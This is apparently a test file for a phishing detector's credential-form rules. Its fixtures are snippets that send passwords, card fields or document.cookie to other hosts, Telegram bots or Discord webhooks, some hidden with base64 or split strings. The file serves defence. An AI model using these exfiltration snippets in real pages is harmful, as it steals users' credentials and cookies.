import { describe, expect, test } from 'bun:test'
import { CREDENTIAL_FORM_TABLE } from '../../../../src/trust/judge/credentials/credential-form.ts'
import { findings, rules, rulesInViews } from '../page-subject.ts'

const form = (action: string) =>
  `<form action="${action}" method=post><input name=u><input type=password name=p></form>`
const at = (body: string, url = 'https://shop.example/login') => rules(CREDENTIAL_FORM_TABLE, body, { url })

describe('a form for a password that is sent to a namesake', () => {
  const from = 'https://www.harborbooks.example/login'
  test.each([
    ['of another ending', 'https://accounts.harborbooks.net/session'],
    ['with a word behind the name', 'https://harborbooks-id.org/session'],
  ])('%s is not sent to another owner', (_, action) => {
    expect(at(form(action), from)).toEqual([])
  })

  test.each([
    ['whose name only contains it', 'https://harborbooksfan.net/x'],
    ['that is a tenant', 'https://harborbooks.pages.dev/x'],
  ])('%s is', (_, action) => {
    expect(at(form(action), from)).toContain('content.form_cross_site')
  })

  test('of a short name is', () => {
    expect(at(form('https://abcd.net/x'), 'https://abcd.example/')).toContain('content.form_cross_site')
  })
})

describe('a form for a password', () => {
  test.each([
    ['posts to another site', ['content.form_cross_site'], form('https://collect.example.net/x.php')],
    [
      'posts to another site by its base',
      ['content.form_cross_site'],
      `<base href="https://b.example.net/">${form('x.php')}`,
    ],
    ['posts without a scheme', ['content.form_cross_site'], form('//b.example.net/x')],
    ['posts over http', ['content.form_http'], form('http://shop.example/x')],
    [
      'posts to another site over http',
      ['content.form_cross_site', 'content.form_http'],
      form('http://b.example.net/'),
    ],
    ['posts to an address', ['content.form_http', 'content.form_ip'], form('http://203.0.113.9/x.php')],
    ['posts to an IPv6 address', ['content.form_ip'], form('https://[2001:db8::1]/x.php')],
    ['is sent by mail', ['content.form_mail'], form('MailTo:a@b.example')],
    ['is sent to a collector', ['content.form_bot'], form('https://formspree.io/f/abc')],
    [
      'is a card, and is sent to a collector',
      ['content.card_collector'],
      '<form method=post action=https://formspree.io/f/abc><input name=cardnumber><input name=ccv></form>',
    ],
    ['is sent to a chat bot', ['content.form_chat'], form('https://api.telegram.org/bot1:x/sendMessage')],
    [
      'is sent elsewhere by its button',
      ['content.form_cross_site'],
      form('/x').replace('</form>', '<button formaction="https://b.example.net/">Go</button></form>'),
    ],
    [
      'has its field outside',
      ['content.form_cross_site'],
      '<form id=f action="https://b.example.net/"></form><input type=password form=f>',
    ],
    [
      'asks for a card',
      ['content.form_cross_site'],
      '<form action="https://b.example.net/"><input autocomplete=cc-number></form>',
    ],
  ])('that %s', (_, expected, body) => {
    expect<readonly string[]>(at(body)).toEqual(expected)
  })

  test('that a script writes', () => {
    const written = encodeURIComponent(form('https://b.example.net/'))
    const body = `<body><script>document.write(unescape('${written}'))</script>`
    expect(rulesInViews(CREDENTIAL_FORM_TABLE, body)).toContain('content.form_cross_site')
  })

  test.each([
    ['posts to the site itself', form('/x')],
    ['has no action', form('')],
    ['posts to another host of the same domain', form('https://auth.shop.example/x')],
    ['posts to an identity provider', form('https://shop.eu.auth0.com/login')],
    [
      'posts to a payment provider',
      '<form action="https://checkout.stripe.com/pay"><input autocomplete=cc-number></form>',
    ],
    [
      'stands beside a form for news',
      `${form('/x')}<form action="https://list.example.net/"><input type=email></form>`,
    ],
    ['goes to a script', form('javascript:void(0)')],
    ['posts nowhere that is an address', form('https://%')],
  ])('that %s gives no sign', (_, body) => {
    expect(at(body)).toEqual([])
  })

  test('posts within the domains of one owner', () => {
    expect(at(form('https://login.live.com/ppsecure'), 'https://www.microsoft.com/x')).toEqual([])
    expect(at(form('https://www.venmo.com/x'), 'https://www.paypal.com/')).toEqual([])
  })

  test('on an address that posts to itself is no form elsewhere', () => {
    expect(at(form('/x'), 'https://203.0.113.9/')).toEqual([])
  })

  test('over http is a password over http', () => {
    expect(at(form('/x'), 'http://shop.example/')).toEqual(['content.password_over_http'])
    expect(at('<input name=q>', 'http://shop.example/')).toEqual([])
  })

  test('names its place, its target and whose it should be', () => {
    expect(findings(CREDENTIAL_FORM_TABLE, `<p>${form('https://b.example.net/x')}`)[0]).toEqual({
      rule: 'content.form_cross_site',
      evidence: { at: 'html:form[0]', offset: 3, seen: 'https://b.example.net/x', expected: 'shop.example' },
    })
  })
})

describe('a script on a page with a password', () => {
  const FIELD = '<input type=password id=p>'
  const script = (code: string) => `${FIELD}<script>${code}</script>`

  test.each([
    [
      'sends it to a chat bot',
      ['content.form_chat'],
      script("fetch('https://api.telegram.org/bot'+t+'/sendMessage')"),
    ],
    [
      'sends it to a chat bot in pieces',
      ['content.form_chat'],
      script("var u='https://api.tele'+'gram.org/bot'"),
    ],
    [
      'sends it to a chat bot in disguise',
      ['content.form_chat'],
      script(`var u=atob("${btoa('https://api.telegram.org/bot123:abc/')}")`),
    ],
    [
      'sends it to a webhook',
      ['content.form_chat'],
      script("fetch('https://discord.com/api/webhooks/1/x',{body:p.value})"),
    ],
    [
      'sends it to a webhook of its own kind',
      ['content.form_bot'],
      script("fetch('/api/webhooks/1',{body:p.value})"),
    ],
    [
      'sends it to another site',
      ['content.form_cross_site'],
      script("fetch('https://b.example.net/a',{method:'POST',body:JSON.stringify({password:p.value})})"),
    ],
    [
      'sends it to an address',
      ['content.form_http', 'content.form_ip'],
      script("x.open('POST','http://203.0.113.9/a');x.send('pass='+p.value)"),
    ],
    [
      'sends it by beacon',
      ['content.form_cross_site'],
      script("navigator.sendBeacon('https://b.example.net/a',passwd)"),
    ],
    [
      'sends it over a socket',
      ['content.form_cross_site'],
      script("s=new WebSocket('wss://b.example.net/a');s.send(password)"),
    ],
  ])('%s', (_, expected, body) => {
    expect<readonly string[]>(at(body)).toEqual(expected)
  })

  test.each([
    ['sends it to the site itself', script("fetch('/login',{body:JSON.stringify({password:p.value})})")],
    ['counts visits', script("fetch('https://stats.example.net/hit')")],
    [
      'counts visits at a known owner',
      script("navigator.sendBeacon('https://www.google-analytics.com/collect',password_page)"),
    ],
    ['asks nothing', "<script>fetch('https://b.example.net/password')</script>"],
    ['speaks of bots without asking', "<script>fetch('https://api.telegram.org/bot1/getMe')</script>"],
  ])('%s: no sign', (_, body) => {
    expect(at(body)).toEqual([])
  })
})

describe('a script that sends whatever a page was given', () => {
  const login = '<form id=f><input name=u><input type=password name=p></form>'
  const TO = 'https://collect.example.net/x.php'

  test.each([
    ['with a library', `$.post("${TO}",$(this).serialize())`],
    ['with its settings in any order', `$.ajax({type:"POST",data:$("#f").serialize(),url:"${TO}"})`],
    ['as the data of a form', `fetch("${TO}",{method:"POST",body:new FormData(f)})`],
    ['field by field', `document.querySelectorAll("input").forEach(i=>o[i.name]=i.value);fetch("${TO}",o)`],
  ])('sends the password, %s', (_, code) => {
    expect(at(`${login}<script>${code}</script>`)).toEqual(['content.form_cross_site'])
  })

  test.each([
    ['to the site itself', `${login}<script>$.post("/login",$(this).serialize())</script>`],
    [
      'of another form on the page',
      `${login}<form id=n><input name=newsletter type=email></form><script>$.post("${TO}",$("#n").serialize())</script>`,
    ],
    ['nothing', `${login}<script>fetch("${TO}")</script>`],
  ])('but not %s', (_, body) => {
    expect(at(body)).toEqual([])
  })

  test('finds the address of a bot that a list holds in base64', () => {
    const bot = btoa('https://api.telegram.org/bot15:AAE/sendMessage')
    const code = `<script>var l=["${bot}","submit"];addEventListener(l[1],()=>fetch(atob(l[0])))</script>`
    expect(at(login + code)).toEqual(['content.form_chat'])
    expect(at(login + code.replace(bot, btoa('https://shop.example/api/status/of/services')))).toEqual([])
    expect(at(code)).toEqual([])
  })
})

describe('a login in a folder of files', () => {
  const login = '<input type=password name=p>'

  test.each([
    ['of plug-ins', 'https://harbour.example/wp-content/plugins/abc/login.php'],
    ['of a library', 'https://harbour.example/vendor/phpunit/src/login.php'],
    ['of a module', 'https://harbour.example/modules/mod_menu/a/'],
  ])('%s', (_, url) => {
    expect(at(login, url)).toEqual(['content.misplaced_page'])
    expect(at('<p>Hello', url)).toEqual([])
  })

  test.each([
    ['in the place of logins', 'https://harbour.example/wp-admin/'],
    ['under a name that is only alike', 'https://harbour.example/vendors/login'],
  ])('but not one %s', (_, url) => {
    expect(at(login, url)).toEqual([])
  })

  test.each([
    ['of uploads', 'https://harbour.example/wp-content/uploads/2026/x/index.html'],
    ['of certificates', 'https://harbour.example/.well-known/acme/a/login.php'],
    ['of a user, under a random name', 'https://harbour.example/~backup/17ddf2c/step1.php'],
  ])('%s is proof', (_, url) => {
    expect(at(login, url)).toEqual(['content.intruded_page'])
    expect(at('<p>Hello', url)).toEqual([])
  })

  test('of a user is none', () => {
    expect(at(login, 'https://uni.example/~smith/login.php')).toEqual([])
    expect(at(login, 'https://uni.example/~smith/facade/login.php')).toEqual([])
  })

  test('of files is proof where it asks for a card, but not in the folder of a seller', () => {
    const card = '<input name=cardnumber><input name=cvv>'
    expect(at(card, 'https://harbour.example/wp-content/plugins/abc/pay/')).toEqual(['content.intruded_page'])
    expect(at(card, 'https://harbour.example/vendor/acme/checkout')).toEqual(['content.misplaced_page'])
  })
})

describe('a login in a store of files', () => {
  test.each([
    'https://storage.googleapis.com/a-bucket/login.html',
    'https://a-bucket.fra1.digitaloceanspaces.com/login.html',
    'https://ipfs.io/ipfs/bafybeitjqrimbykwkh2iereezrs5ieqwptsnijsbptvj3jtbue5nld2pug/',
  ])('%s has nobody behind it', (url) => {
    expect(at('<input type=password name=p>', url)).toContain('content.file_host_credential')
    expect(at('<p>Hello', url)).toEqual([])
  })

  test('is none where programs run', () => {
    expect(at('<input type=password name=p>', 'https://an-app.fly.dev/login')).toEqual([])
  })
})

test('cookies that are told to a chat are a secret', () => {
  const send = (what: string) =>
    `<a href=# onclick="fetch('https://discord.com/api/webhooks/1/x',{method:'POST',body:${what}})">Verify</a>`
  expect(at(send('document.cookie'))).toEqual(['content.form_chat'])
  expect(at(send('message.value'))).toEqual([])
})
